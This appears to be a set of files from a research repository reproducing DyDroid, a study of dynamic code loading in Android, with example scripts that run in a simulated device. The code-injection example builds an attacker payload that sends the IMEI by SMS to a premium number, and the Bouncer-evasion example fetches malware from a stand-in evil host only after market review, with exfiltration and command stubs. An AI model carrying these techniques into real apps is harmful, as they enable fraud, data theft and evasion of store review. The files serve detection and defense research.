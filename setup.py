"""Legacy shim so `pip install -e .` works on environments without the
`wheel` package (PEP 660 editable installs need bdist_wheel)."""

from setuptools import setup

setup()
