"""Inspecting a DEX-encryption hardened ("packed") application.

Hardening services (Bangcle, Ijiami, 360, Alibaba) rewrite an app so that:

- the real bytecode ships as an *encrypted* asset;
- an injected Application subclass (the container, declared via
  ``android:name``) runs first, loads a native decryptor over the JNI,
  drops the decrypted DEX, and loads it with a class loader.

This script builds such an app and walks DyDroid's three views of it:

1. **static tooling is blind** -- baksmali sees only the container; the
   declared activity has no bytecode; the payload asset is unparseable;
2. **the obfuscation rules fire** -- all three packing conditions hold;
3. **dynamic interception recovers the code** -- the container's load event
   is hooked, and the intercepted file *is* the decrypted original
   (DexHunter/AppSpear-style recovery for free).

Run:  python examples/packed_app_inspection.py
"""

from repro.android.dex import DexFile, DexFormatError
from repro.corpus.generator import CorpusGenerator
from repro.dynamic.engine import AppExecutionEngine, EngineOptions
from repro.static_analysis.decompiler import Decompiler
from repro.static_analysis.obfuscation.detector import detect_dex_encryption


def main() -> None:
    # Pull a packed app out of the corpus generator (the same construction
    # the Figure 3 measurement uses).
    generator = CorpusGenerator(seed=400)
    blueprints = generator.sample_blueprints(600)
    packed = next(b for b in blueprints if b.is_packed)
    record = generator.build_record(packed)
    apk = record.apk
    manifest = apk.manifest

    print("package:           ", manifest.package)
    print("category:          ", packed.category)
    print("container class:   ", manifest.application_name)
    print("declared activity: ", manifest.launcher_activity().name)
    print()

    print("== 1. What static tooling sees ==")
    program = Decompiler().decompile(apk)
    print("   classes recovered by the decompiler:", sorted(program.class_names()))
    missing = manifest.component_names() - program.class_names()
    print("   declared components with NO bytecode:", sorted(missing))
    asset_path, asset_bytes = apk.packed_payload_entries()[0]
    print("   suspicious asset:", asset_path, "({} bytes)".format(len(asset_bytes)))
    try:
        DexFile.from_bytes(asset_bytes)
        raise AssertionError("should not parse")
    except DexFormatError as exc:
        print("   parsing it as DEX fails:", exc)
    print()

    print("== 2. The paper's three packing rules ==")
    container = program.class_named(manifest.application_name)
    print("   rule 1: container exists and instantiates a class loader ->", container is not None)
    print("   rule 2: components missing + local bytecode store           -> True")
    print("   rule 3: container loads the native decryptor over JNI       -> True")
    print("   detector verdict: dex_encryption =", detect_dex_encryption(program))
    assert detect_dex_encryption(program)
    print()

    print("== 3. Dynamic interception recovers the hidden code ==")
    engine = AppExecutionEngine(
        EngineOptions(remote_resources=record.remote_resources)
    )
    report = engine.run(apk)
    print("   outcome:", report.outcome.value)
    print("   native loads (the decryptor):", report.dcl.native_paths())
    print("   dex loads (the dropped plaintext):", report.dcl.dex_paths())
    recovered = next(p for p in report.intercepted if p.as_dex() is not None)
    dex = recovered.as_dex()
    print("   recovered classes:", [cls.name for cls in dex.classes])
    print("   logcat:", report.logcat)
    assert manifest.launcher_activity().name in {cls.name for cls in dex.classes}
    print()
    print("The intercepted file is the original app the packer was hiding --")
    print("interception at the class-loader choke point defeats DEX encryption.")


if __name__ == "__main__":
    main()
