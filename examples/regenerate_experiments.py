"""Regenerate the EXPERIMENTS.md measurements from a live run.

Runs the full pipeline at the requested scale (default 1/10 of the paper's
58,739 apps) and prints every table plus a paper-vs-measured digest in
markdown -- the source of truth for EXPERIMENTS.md.

Run:  python examples/regenerate_experiments.py [n_apps] [seed]
"""

import sys
import time

from repro import DyDroid, generate_corpus
from repro.core.config import DyDroidConfig
from repro.core.stats import popularity_association, rate_confidence_interval

PAPER = {
    "dex_candidates": 40_849,
    "native_candidates": 25_287,
    "dex_intercept_rate": 0.4105,
    "native_intercept_rate": 0.5437,
    "dex_third_rate": 0.9992,
    "native_third_rate": 0.8608,
    "lexical": 0.8995,
    "reflection": 0.5220,
    "native_obf": 0.2340,
    "dex_encryption": 0.0024,
    "anti_decompilation": 0.0009,
    "settings_share": 16_482 / 16_768,
}


def main() -> None:
    n_apps = int(sys.argv[1]) if len(sys.argv) > 1 else 5874
    seed = int(sys.argv[2]) if len(sys.argv) > 2 else 42

    started = time.time()
    corpus = generate_corpus(n_apps, seed=seed)
    report = DyDroid(DyDroidConfig(train_samples_per_family=3)).measure(corpus)
    elapsed = time.time() - started

    print(report.render_all())
    print()
    print("## Paper-vs-measured digest ({} apps, seed {}, {:.0f}s)".format(n_apps, seed, elapsed))
    print()
    print("| metric | paper | measured | 95% CI |")
    print("|---|---|---|---|")

    summary = report.dynamic_summary()
    rows = []
    for side in ("dex", "native"):
        total = summary[side]["candidates"]
        intercepted = summary[side]["intercepted"]
        low, high = rate_confidence_interval(intercepted, total)
        rows.append(
            (
                "{} interception rate".format(side.upper()),
                "{:.2%}".format(PAPER["{}_intercept_rate".format(side)]),
                "{:.2%}".format(intercepted / total if total else 0),
                "[{:.1%}, {:.1%}]".format(low, high),
            )
        )
    entity = report.entity_table()
    for side in ("dex", "native"):
        total = entity[side]["apps"]
        third = entity[side]["third"]
        low, high = rate_confidence_interval(third, total)
        rows.append(
            (
                "{} third-party share".format(side.upper()),
                "{:.2%}".format(PAPER["{}_third_rate".format(side)]),
                "{:.2%}".format(third / total if total else 0),
                "[{:.1%}, {:.1%}]".format(low, high),
            )
        )
    obfuscation = report.obfuscation_table()
    for key, label in (
        ("Lexical", "lexical"),
        ("Reflection", "reflection"),
        ("Native", "native_obf"),
        ("DEX encryption", "dex_encryption"),
        ("Anti-decompilation", "anti_decompilation"),
    ):
        count = obfuscation[key]
        low, high = rate_confidence_interval(count, report.n_total)
        rows.append(
            (
                key,
                "{:.2%}".format(PAPER[label]),
                "{:.2%}".format(count / report.n_total),
                "[{:.2%}, {:.2%}]".format(low, high),
            )
        )
    privacy = report.privacy_table()
    n_intercepted = sum(1 for a in report.apps if a.dex_intercepted)
    settings = privacy.get("Settings", {"n_apps": 0})["n_apps"]
    low, high = rate_confidence_interval(settings, n_intercepted)
    rows.append(
        (
            "Settings-tracking share",
            "{:.2%}".format(PAPER["settings_share"]),
            "{:.2%}".format(settings / n_intercepted if n_intercepted else 0),
            "[{:.1%}, {:.1%}]".format(low, high),
        )
    )
    for label, paper, measured, ci in rows:
        print("| {} | {} | {} | {} |".format(label, paper, measured, ci))

    print()
    print("## Popularity association (Mann-Whitney, one-sided)")
    print()
    for result in popularity_association(report):
        print(
            "- {} / {}: group mean {:,.0f} vs {:,.0f}, p = {:.2e} ({})".format(
                result.group,
                result.metric,
                result.group_mean,
                result.complement_mean,
                result.p_value,
                "significant" if result.significant else "not significant",
            )
        )


if __name__ == "__main__":
    main()
