"""Quickstart: measure a synthetic app market with DyDroid.

Generates a 600-app corpus shaped like the paper's Google Play crawl, runs
the full hybrid pipeline (decompile -> prefilter -> dynamic analysis ->
static analysis of intercepted code), and prints every table of the
evaluation section.

Run:  python examples/quickstart.py [n_apps] [seed]
"""

import sys
import time

from repro import DyDroid, generate_corpus
from repro.core.config import DyDroidConfig


def main() -> None:
    n_apps = int(sys.argv[1]) if len(sys.argv) > 1 else 600
    seed = int(sys.argv[2]) if len(sys.argv) > 2 else 7

    print("generating a {}-app market (seed {})...".format(n_apps, seed))
    started = time.time()
    corpus = generate_corpus(n_apps, seed=seed)
    print("  done in {:.1f}s".format(time.time() - started))

    print("training DroidNative and measuring...")
    started = time.time()
    dydroid = DyDroid(DyDroidConfig(train_samples_per_family=3))
    report = dydroid.measure(corpus)
    print("  done in {:.1f}s".format(time.time() - started))
    print()
    print(report.render_all())

    print()
    print("-" * 70)
    candidates = len(report.dex_candidates()) + len(report.native_candidates())
    print(
        "{} apps analyzed; {} DCL candidates entered dynamic analysis; "
        "{} apps loaded code at runtime.".format(
            report.n_total,
            candidates,
            sum(1 for a in report.apps if a.dex_intercepted or a.native_intercepted),
        )
    )


if __name__ == "__main__":
    main()
