"""Closing the DCL holes: developer-side and OS-side defenses.

The paper's conclusion asks for "security verification of DCL ... from the
app developer and OS vendors".  This example shows both remedies stopping
the two headline attacks:

1. the **Table IX code-injection** attack, defeated by the developer using
   a Grab'n-Run-style :class:`SecureDexClassLoader` (digest + signature
   pinning) instead of a raw ``DexClassLoader``;
2. the **Table V content-policy violation** (remote code), surfaced and
   blocked by an OS-side :class:`PolicyEngine` fed from DyDroid's DCL
   events and download tracker.

Run:  python examples/secure_loading.py
"""

from repro.android.apk import Apk
from repro.android.builders import MethodBuilder, class_builder
from repro.android.dex import DexFile
from repro.android.manifest import (
    INTERNET,
    WRITE_EXTERNAL_STORAGE,
    AndroidManifest,
)
from repro.defense import PayloadManifest, PolicyEngine, SecureDexClassLoader
from repro.defense.policy import PolicyContext
from repro.dynamic.engine import AppExecutionEngine, EngineOptions
from repro.runtime.device import Device
from repro.runtime.instrumentation import Instrumentation
from repro.runtime.objects import VMException
from repro.runtime.vm import DalvikVM
from repro.static_analysis.malware.families import swiss_code_monkeys_dex
from repro.corpus.behaviors import emit_download_to_file, emit_dex_load
from repro.android.manifest import Component, ComponentKind

PACKAGE = "com.hardened.app"
PLUGIN_PATH = "/mnt/sdcard/im_sdk/jar/plugin.jar"


def genuine_plugin() -> DexFile:
    cls = class_builder("com.plugin.Main")
    init = MethodBuilder("<init>", cls.name, arity=1)
    init.ret_void()
    cls.add_method(init.build())
    run = MethodBuilder("run", cls.name, arity=1)
    run.call_void("android.util.Log", "d", run.new_string("plugin"), run.new_string("genuine v1"))
    run.ret_void()
    cls.add_method(run.build())
    return DexFile(classes=[cls])


def demo_secure_loader() -> None:
    print("== defense 1: SecureDexClassLoader vs the code-injection attack ==")
    device = Device()
    vm = DalvikVM(device, Instrumentation())
    manifest = AndroidManifest(
        package=PACKAGE, permissions={INTERNET, WRITE_EXTERNAL_STORAGE}
    )
    vm.install_app(Apk.build(manifest, dex_files=[DexFile()]))

    # At release time the developer pins the genuine plugin's digest.
    plugin = genuine_plugin()
    pinned = PayloadManifest(signing_key=b"developer-release-key")
    pinned.pin("voice-plugin", plugin.to_bytes())
    device.vfs.write(PLUGIN_PATH, plugin.to_bytes(), owner=PACKAGE)

    loader = SecureDexClassLoader(pinned, vm)
    loader.load_class(
        "voice-plugin", PLUGIN_PATH, "/data/data/{}/cache".format(PACKAGE), "com.plugin.Main"
    )
    print("   genuine plugin verified and loaded:", loader.verified_loads)

    # The attacker swaps the world-writable file (the Table IX attack)...
    device.vfs.write(
        PLUGIN_PATH, swiss_code_monkeys_dex(1).to_bytes(), owner="com.attacker"
    )
    try:
        loader.load_class("voice-plugin", PLUGIN_PATH, "/cache", "com.plugin.Main")
        raise AssertionError("must not load")
    except VMException as exc:
        print("   tampered payload BLOCKED:", exc.class_name, "-", exc.message[:70])
    print("   nothing from the attacker entered the class space.")
    print()


def _remote_loading_app(url: str) -> Apk:
    package = "com.fetcher.app"
    activity = "{}.MainActivity".format(package)
    cls = class_builder(activity, superclass="android.app.Activity")
    builder = MethodBuilder("onCreate", activity, arity=1)
    dest = "/data/data/{}/cache/payload.jar".format(package)
    emit_download_to_file(builder, url, dest)
    emit_dex_load(builder, dest, "/data/data/{}/cache/odex".format(package))
    builder.ret_void()
    cls.add_method(builder.build())
    manifest = AndroidManifest(
        package=package,
        permissions={INTERNET, WRITE_EXTERNAL_STORAGE},
        components=[Component(ComponentKind.ACTIVITY, activity, True)],
    )
    return Apk.build(manifest, dex_files=[DexFile(classes=[cls])])


def demo_policy_engine() -> None:
    print("== defense 2: OS-side policy vs remotely fetched code ==")
    url = "http://cdn.sdk-demo.com/payload.jar"
    apk = _remote_loading_app(url)  # fetches+loads a payload from a CDN
    report = AppExecutionEngine(
        EngineOptions(remote_resources={url: genuine_plugin().to_bytes()})
    ).run(apk)

    engine = PolicyEngine()
    context = PolicyContext(
        app_package=apk.package, manifest=apk.manifest, tracker=report.tracker
    )
    denials = engine.evaluate_session(context, dex_events=report.dcl.dex_events)
    for decision in denials:
        print("   DENY [{}] {}".format(decision.rule, decision.path))
        print("        reason:", decision.reason)
    assert engine.would_block(report.intercepted[0].path)
    print("   a DyDroid-informed OS would refuse this load -- the enforcement")
    print("   mechanism the paper says today's Android lacks.")


def main() -> None:
    demo_secure_loader()
    demo_policy_engine()


if __name__ == "__main__":
    main()
