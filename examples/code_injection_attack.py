"""Exploiting risky DCL: the Table IX code-injection vulnerability, live.

A victim app caches its loadable bytecode on external storage
(``/mnt/sdcard/im_sdk/jar/...``, the com.longtukorea.snmg pattern).  Before
Android 4.4 any installed app can write there -- so a malicious app with no
permissions beyond sdcard write can *replace the file*, and the victim will
execute attacker code with all of the victim's permissions.

This script stages the attack end to end on one simulated device, then
shows DyDroid's vulnerability analysis flagging the same app from its DCL
events alone.

Run:  python examples/code_injection_attack.py
"""

from repro.android.apk import Apk
from repro.android.builders import MethodBuilder, class_builder
from repro.android.dex import DexFile
from repro.android.manifest import (
    INTERNET,
    WRITE_EXTERNAL_STORAGE,
    AndroidManifest,
    Component,
    ComponentKind,
)
from repro.corpus.behaviors import emit_asset_to_file, emit_dex_load
from repro.runtime.device import Device
from repro.runtime.instrumentation import Instrumentation
from repro.runtime.objects import VMObject
from repro.runtime.vm import DalvikVM
from repro.static_analysis.decompiler import Decompiler
from repro.static_analysis.vulnerability import RiskyLoadCategory, classify_loads
from repro.dynamic.dcl_logger import DclLogger

VICTIM_PACKAGE = "com.longtu.snmg"
CACHE_PATH = "/mnt/sdcard/im_sdk/jar/yayavoice_for_assets.jar"


def benign_plugin() -> DexFile:
    cls = class_builder("com.yaya.voice.Plugin")
    init = MethodBuilder("<init>", cls.name, arity=1)
    init.ret_void()
    cls.add_method(init.build())
    run = MethodBuilder("run", cls.name, arity=1)
    run.call_void("android.util.Log", "d", run.new_string("voice"), run.new_string("voice sdk ready"))
    run.ret_void()
    cls.add_method(run.build())
    return DexFile(classes=[cls])


def attacker_payload() -> DexFile:
    """Same entry class/method, hostile body, running AS THE VICTIM."""
    cls = class_builder("com.yaya.voice.Plugin")
    init = MethodBuilder("<init>", cls.name, arity=1)
    init.ret_void()
    cls.add_method(init.build())
    run = MethodBuilder("run", cls.name, arity=1)
    tm = run.call_virtual(
        "android.content.Context", "getSystemService", run.arg(0), run.new_string("phone")
    )
    imei = run.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
    sms = run.call_static("android.telephony.SmsManager", "getDefault")
    null = run.new_null()
    run.call_void(
        "android.telephony.SmsManager", "sendTextMessage",
        sms, run.new_string("+7900PREMIUM"), null, imei, null, null,
    )
    run.ret_void()
    cls.add_method(run.build())
    return DexFile(classes=[cls])


def build_victim() -> Apk:
    activity = "{}.MainActivity".format(VICTIM_PACKAGE)
    cls = class_builder(activity, superclass="android.app.Activity")

    install = MethodBuilder("onCreate", activity, arity=1)
    # First run: drop the bundled plugin onto the sdcard cache...
    file_obj = install.new_instance_of("java.io.File", install.new_string(CACHE_PATH))
    exists = install.call_virtual("java.io.File", "exists", file_obj)
    install.if_nez(exists, "cached")
    emit_asset_to_file(install, "voice_sdk.bin", CACHE_PATH)
    install.label("cached")
    # ...then (every run) load whatever sits there. No integrity check.
    emit_dex_load(
        install,
        CACHE_PATH,
        "/data/data/{}/cache/odex".format(VICTIM_PACKAGE),
        entry_class="com.yaya.voice.Plugin",
    )
    install.ret_void()
    cls.add_method(install.build())

    manifest = AndroidManifest(
        package=VICTIM_PACKAGE,
        min_sdk=14,  # supports pre-KitKat: sdcard is world-writable
        permissions={INTERNET, WRITE_EXTERNAL_STORAGE},
        components=[Component(ComponentKind.ACTIVITY, activity, True)],
    )
    return Apk.build(
        manifest,
        dex_files=[DexFile(classes=[cls])],
        assets={"assets/voice_sdk.bin": benign_plugin().to_bytes()},
    )


def main() -> None:
    device = Device()
    victim = build_victim()

    print("== 1. Victim runs normally: caches and loads its voice plugin ==")
    instrumentation = Instrumentation()
    logger = DclLogger().attach(instrumentation)
    vm = DalvikVM(device, instrumentation)
    vm.install_app(victim)
    activity = "{}.MainActivity".format(VICTIM_PACKAGE)
    vm.run_entry(activity, "onCreate", [VMObject(activity)])
    print("   logcat:", device.logcat)
    assert device.logcat == ["voice: voice sdk ready"]

    print()
    print("== 2. A malicious app overwrites the world-writable cache ==")
    record = device.vfs.stat(CACHE_PATH)
    print("   {} world_writable={}".format(CACHE_PATH, record.world_writable))
    # the attacker app only needs sdcard write access (pre-4.4: implicit).
    device.vfs.write(
        CACHE_PATH, attacker_payload().to_bytes(), owner="com.free.wallpaper.attacker"
    )
    print("   file replaced by com.free.wallpaper.attacker")

    print()
    print("== 3. Victim restarts and loads the attacker's code ==")
    device.logcat.clear()
    vm2 = DalvikVM(device, Instrumentation())
    vm2.install_app(victim)
    vm2.run_entry(activity, "onCreate", [VMObject(activity)])
    print("   SMS sent BY THE VICTIM APP:", device.sms_sent)
    assert device.sms_sent and device.sms_sent[0][0] == "+7900PREMIUM"
    print("   -> attacker code executed with the victim's identity and permissions")

    print()
    print("== 4. DyDroid's vulnerability analysis flags exactly this app ==")
    program = Decompiler().decompile(victim)
    findings = classify_loads(
        VICTIM_PACKAGE,
        victim.manifest,
        dex_events=logger.dex_events,
        program=program,
    )
    for finding in findings:
        print("   {} [{}] loads {}".format(finding.package, finding.category.value, finding.path))
    assert findings[0].category is RiskyLoadCategory.EXTERNAL_STORAGE
    print()
    print("Table IX row reproduced: DEX loaded from external storage on a")
    print("pre-4.4 device, with no integrity verification by the developer.")


if __name__ == "__main__":
    main()
