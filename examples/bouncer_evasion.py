"""The App_L / App_M experiment: evading market review with remote DCL.

The paper (Section III-B(a)) built a malicious app ``App_M`` (rejected by
Google Bouncer), then a loader app ``App_L`` that fetches ``App_M``'s
payload from a server *whose operator decides whether to serve it*.  With
delivery disabled during review, App_L sailed through and was published.

This script reproduces the whole episode against a simulated market:

1. the market's review (static DroidNative scan + a time-boxed dynamic run)
   rejects App_M outright;
2. the same review approves App_L, because during review the server returns
   404 for the payload;
3. after "release", delivery is switched on: an end-user device runs App_L
   and the Swiss-code-monkeys payload executes and exfiltrates identifiers;
4. DyDroid's interception + download tracker catches what the market
   missed: a remotely fetched, malicious, third-party-loaded binary.

Run:  python examples/bouncer_evasion.py
"""

from repro.android.apk import Apk
from repro.android.builders import MethodBuilder, class_builder
from repro.android.dex import DexFile
from repro.android.manifest import (
    INTERNET,
    WRITE_EXTERNAL_STORAGE,
    AndroidManifest,
    Component,
    ComponentKind,
)
from repro.corpus.behaviors import emit_download_to_file, emit_dex_load
from repro.dynamic.engine import AppExecutionEngine, DynamicOutcome, EngineOptions
from repro.runtime.network import RemoteServer
from repro.static_analysis.malware.droidnative import DroidNative
from repro.static_analysis.malware.families import (
    SWISS_CODE_MONKEYS,
    swiss_code_monkeys_dex,
    training_corpus,
)

PAYLOAD_URL = "http://apps-cdn.evil-labs.example/feature_pack.jar"
SERVER_HOST = "apps-cdn.evil-labs.example"
SERVER_PATH = "/feature_pack.jar"


def build_app_m() -> Apk:
    """App_M: the malware packaged directly into the APK."""
    payload = swiss_code_monkeys_dex(seed=2024)
    service_class = payload.classes[0].name
    package = "com.evil.labs.appm"
    activity = "{}.MainActivity".format(package)
    cls = class_builder(activity, superclass="android.app.Activity")
    builder = MethodBuilder("onCreate", activity, arity=1)
    builder.call_void(service_class, "onStart", builder.arg(0))
    builder.ret_void()
    cls.add_method(builder.build())
    host = DexFile(classes=[cls])
    host.merge(payload)
    manifest = AndroidManifest(
        package=package,
        permissions={INTERNET, WRITE_EXTERNAL_STORAGE},
        components=[Component(ComponentKind.ACTIVITY, activity, True)],
    )
    return Apk.build(manifest, dex_files=[host])


def build_app_l() -> Apk:
    """App_L: downloads the payload at runtime, if the server provides it."""
    package = "com.evil.labs.appl"
    activity = "{}.MainActivity".format(package)
    dest = "/data/data/{}/files/feature_pack.jar".format(package)
    payload_entry = swiss_code_monkeys_dex(seed=2024).classes[0].name

    cls = class_builder(activity, superclass="android.app.Activity")
    builder = MethodBuilder("onCreate", activity, arity=1)
    emit_download_to_file(builder, PAYLOAD_URL, dest)
    emit_dex_load(
        builder,
        dest,
        "/data/data/{}/cache/odex".format(package),
        entry_class=payload_entry,
        entry_method="onStart",
    )
    builder.ret_void()
    cls.add_method(builder.build())
    manifest = AndroidManifest(
        package=package,
        permissions={INTERNET, WRITE_EXTERNAL_STORAGE},
        components=[Component(ComponentKind.ACTIVITY, activity, True)],
    )
    return Apk.build(manifest, dex_files=[DexFile(classes=[cls])])


class MarketReview:
    """A Bouncer-like review: static scan plus a sandboxed dynamic run."""

    def __init__(self) -> None:
        self.detector = DroidNative()
        self.detector.train_corpus(training_corpus(samples_per_family=3, seed=0))

    def review(self, apk: Apk, remote_resources=None) -> str:
        # Static scan of every packaged DEX.
        for dex in apk.dex_files():
            detection = self.detector.detect(dex)
            if detection is not None:
                return "REJECTED (static scan: {})".format(detection)
        # Sandboxed dynamic run with interception.
        engine = AppExecutionEngine(EngineOptions(remote_resources=remote_resources or {}))
        report = engine.run(apk)
        for payload in report.intercepted:
            binary = payload.as_dex() or payload.as_native()
            if binary is not None and self.detector.detect(binary) is not None:
                return "REJECTED (dynamic scan caught loaded malware)"
        if report.outcome is DynamicOutcome.CRASH:
            pass  # review tolerates crashes from unreachable CDNs
        return "APPROVED"


def main() -> None:
    market = MarketReview()
    payload_bytes = swiss_code_monkeys_dex(seed=2024).to_bytes()

    def payload_resource(server: RemoteServer, path: str):
        return payload_bytes if server.flags.get("serve_malware") else None

    print("== 1. App_M (malware packaged statically) submitted for review ==")
    app_m = build_app_m()
    verdict = market.review(app_m)
    print("   market verdict:", verdict)
    assert verdict.startswith("REJECTED")

    print()
    print("== 2. App_L (remote loader) submitted; server delivery DISABLED ==")
    app_l = build_app_l()
    # The server-side switchboard: payload only when serve_malware is set.
    verdict = market.review(app_l, remote_resources={PAYLOAD_URL: payload_resource})
    print("   market verdict:", verdict)
    assert verdict == "APPROVED"

    print()
    print("== 3. Post-release: delivery ENABLED; an end user runs App_L ==")
    from repro.corpus.behaviors import extract_url_constants

    # The attacker's C2 endpoints are live in the wild; host them so the
    # payload's beacon/command loop runs instead of dying on a 404.
    live_world = {PAYLOAD_URL: payload_bytes}
    for url in extract_url_constants(swiss_code_monkeys_dex(seed=2024)):
        live_world.setdefault(url, b"\x01")  # command byte: install app
    user_engine = AppExecutionEngine(EngineOptions(remote_resources=live_world))
    user_report = user_engine.run(app_l)
    print("   outcome: {}, intercepted {} payload(s)".format(
        user_report.outcome.value, len(user_report.intercepted)))
    print("   exfiltration log:", user_report.exfiltrated)
    assert user_report.intercepted

    print()
    print("== 4. Even a multi-engine AV scan of the payload comes back clean ==")
    from repro.baselines.virustotal import VirusTotalScanner

    scanner = VirusTotalScanner()
    for known_seed in range(8):  # AV vendors know *other* family samples
        scanner.submit_known_sample("scm", swiss_code_monkeys_dex(seed=known_seed))
    payload = user_report.intercepted[0]
    scan = scanner.scan(payload.as_dex())
    print("   signature-scan detection ratio: {} (variant evades)".format(scan.detection_ratio))
    assert not scan.is_detected

    print()
    print("== 5. DyDroid's verdict on the very same run ==")
    detection = market.detector.detect(payload.as_dex())
    remote = user_report.tracker.is_remote(payload.path)
    sources = user_report.tracker.remote_sources(payload.path)
    print("   loaded file:      ", payload.path)
    print("   call site:        ", payload.call_site)
    print("   provenance:       ", "REMOTE" if remote else "LOCAL", sources)
    print("   DroidNative:      ", detection)
    assert detection is not None and detection.family == SWISS_CODE_MONKEYS
    assert remote
    print()
    print("Remote DCL let the app change behaviour after review -- exactly the")
    print("content-policy violation DyDroid measures (Table V) and the threat")
    print("model behind its malware findings (Table VII).")


if __name__ == "__main__":
    main()
