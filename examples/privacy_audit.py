"""Auditing privacy tracking inside dynamically loaded SDK code (Table X).

A developer integrates two SDKs.  Neither's *static* stub reads anything
sensitive -- the tracking lives in the payloads they load at runtime, which
is why the paper calls the integrated SDK "a black-box for the developer".

This script runs one app through the dynamic engine, feeds every
intercepted DEX to the FlowDroid-style analysis, and prints a per-payload
audit: which data types flow to which sinks, and who (developer vs SDK)
caused that code to run.

Run:  python examples/privacy_audit.py
"""

import random

from repro.android.apk import Apk
from repro.android.builders import MethodBuilder, class_builder
from repro.android.dex import DexFile
from repro.android.manifest import (
    INTERNET,
    WRITE_EXTERNAL_STORAGE,
    AndroidManifest,
    Component,
    ComponentKind,
)
from repro.corpus.behaviors import BehaviorContext
from repro.corpus import sdks
from repro.dynamic.engine import AppExecutionEngine, EngineOptions

from repro.runtime.stacktrace import shares_app_package
from repro.static_analysis.privacy.flowdroid import analyze_dex
from repro.static_analysis.privacy.sources import PRIVACY_CATEGORIES

PACKAGE = "com.indie.todo"


def build_app():
    rng = random.Random(12)
    ctx = BehaviorContext(rng=rng, package=PACKAGE)

    # SDK 1: a Google-Ads-like banner SDK (tracks only Settings).
    ads = sdks.build_google_ads_sdk(ctx)
    # SDK 2: an aggressive analytics SDK.
    analytics = sdks.build_analytics_sdk(
        ctx, ["IMEI", "Location", "Installed packages"], vendor="com.trackmax.sdk"
    )

    activity = "{}.MainActivity".format(PACKAGE)
    cls = class_builder(activity, superclass="android.app.Activity")
    builder = MethodBuilder("onCreate", activity, arity=1)
    builder.call_void(ads.entry_class, "start", builder.arg(0))
    builder.call_void(analytics.entry_class, "start", builder.arg(0))
    builder.ret_void()
    cls.add_method(builder.build())

    dex = DexFile(classes=[cls, ads.dex_class, analytics.dex_class])
    manifest = AndroidManifest(
        package=PACKAGE,
        permissions={INTERNET, WRITE_EXTERNAL_STORAGE},
        components=[Component(ComponentKind.ACTIVITY, activity, True)],
    )
    apk = Apk.build(manifest, dex_files=[dex], assets=ctx.assets)
    # Host every URL the payloads may touch (live world).
    from repro.corpus.behaviors import extract_url_constants
    from repro.android.dex import is_dex_bytes

    resources = dict(ctx.remote_resources)
    for _, data in apk.asset_entries():
        if is_dex_bytes(data):
            for url in extract_url_constants(DexFile.from_bytes(data)):
                resources.setdefault(url, b"OK")
    return apk, resources


def main() -> None:
    apk, resources = build_app()
    print("app under audit:", PACKAGE)
    print()

    report = AppExecutionEngine(EngineOptions(remote_resources=resources)).run(apk)
    print("dynamic analysis: {} / {} payload(s) intercepted".format(
        report.outcome.value, len(report.intercepted)))
    print()

    total_types = set()
    for payload in report.intercepted:
        dex = payload.as_dex()
        if dex is None:
            continue
        entity = (
            "developer (own code)"
            if payload.call_site and shares_app_package(payload.call_site, PACKAGE)
            else "third-party SDK"
        )
        print("payload {} (loaded by {} -> {})".format(
            payload.path, payload.call_site, entity))
        leaks = analyze_dex(dex)
        if not leaks:
            print("   no privacy flows found")
        for leak in leaks:
            total_types.add(leak.data_type)
            print("   [{}] {:<22} -> {}.{} via {}".format(
                PRIVACY_CATEGORIES[leak.category],
                leak.data_type,
                leak.sink_class,
                leak.sink_method,
                leak.channel,
            ))
        print()

    print("summary: the developer's APK never touches {}".format(sorted(total_types)))
    print("-- every flow lives in code the SDKs loaded at runtime, invisible to")
    print("   a static audit of the installation package (Table X's finding).")
    assert {"Settings", "IMEI", "Location", "Installed packages"} <= total_types


if __name__ == "__main__":
    main()
