"""The network farm: wire formats, the lease ledger, and multi-node drains.

The expensive end-to-end cases run a real coordinator on an ephemeral
port with real ``join_farm`` workers against a small corpus; the
SIGKILL test spawns ``repro farm join`` as a subprocess so the kill is
a genuine process death, not a simulated one.
"""

import json
import os
import signal
import socket
import subprocess
import sys
import time

import pytest

from repro.core.config import DyDroidConfig
from repro.corpus.generator import CorpusGenerator
from repro.farm import ChaosSpec, FarmConfig, run_farm
from repro.farm.jobs import (
    ShardJob,
    chaos_from_wire,
    chaos_to_wire,
    config_from_wire,
    config_to_wire,
    run_fingerprint,
    shard_job_from_wire,
    shard_job_to_wire,
    shard_result_from_wire,
    shard_result_to_wire,
)
from repro.farm.netcoord import FarmCoordinator, ShardLedger
from repro.farm.networker import FarmJoinError, join_farm
from repro.farm.worker import run_shard
from repro.observe.metrics import MetricsRegistry
from repro.service.client import ServiceClient, ServiceClientError

N_APPS = 12
SEED = 19
N_SHARDS = 4  # contiguous: 3 apps per shard


def pipeline_config():
    return DyDroidConfig(train_samples_per_family=2, run_replays=False)


def farm_config(**kwargs):
    defaults = dict(
        n_apps=N_APPS,
        corpus_seed=SEED,
        workers=1,
        n_shards=N_SHARDS,
        pipeline=pipeline_config(),
        backoff_s=0.0,
    )
    defaults.update(kwargs)
    return FarmConfig(**defaults)


@pytest.fixture(scope="module")
def local_result():
    """The single-process reference every distributed run must reproduce."""
    return run_farm(farm_config())


@pytest.fixture(scope="module")
def corpus_packages():
    generator = CorpusGenerator(seed=SEED)
    return [b.package for b in generator.sample_blueprints(N_APPS)]


def json_round_trip(data):
    return json.loads(json.dumps(data))


# -- wire formats ------------------------------------------------------------------


class TestWireRoundTrips:
    def test_config_survives_json(self):
        config = pipeline_config()
        restored = config_from_wire(json_round_trip(config_to_wire(config)))
        assert restored == config
        assert run_fingerprint(SEED, N_APPS, restored) == run_fingerprint(
            SEED, N_APPS, config
        )

    def test_chaos_survives_json(self):
        chaos = ChaosSpec(
            fail_packages=("com.a", "com.b"),
            fail_attempts=3,
            slow_packages=("com.c",),
            slow_s=0.5,
        )
        assert chaos_from_wire(json_round_trip(chaos_to_wire(chaos))) == chaos

    def test_shard_job_survives_json(self):
        job = ShardJob(
            shard_id=2,
            corpus_seed=SEED,
            n_apps=N_APPS,
            indices=(3, 4, 5),
            config=pipeline_config(),
            timeout_s=9.0,
            chaos=ChaosSpec(slow_packages=("com.x",), slow_s=0.1),
            verdict_store="/tmp/verdicts.jsonl",
        )
        assert shard_job_from_wire(json_round_trip(shard_job_to_wire(job))) == job

    def test_shard_result_survives_json(self):
        job = ShardJob(
            shard_id=0,
            corpus_seed=SEED,
            n_apps=N_APPS,
            indices=(0, 1),
            config=pipeline_config(),
        )
        result = run_shard(job)
        restored = shard_result_from_wire(json_round_trip(shard_result_to_wire(result)))
        assert restored.shard_id == result.shard_id
        assert restored.results == result.results
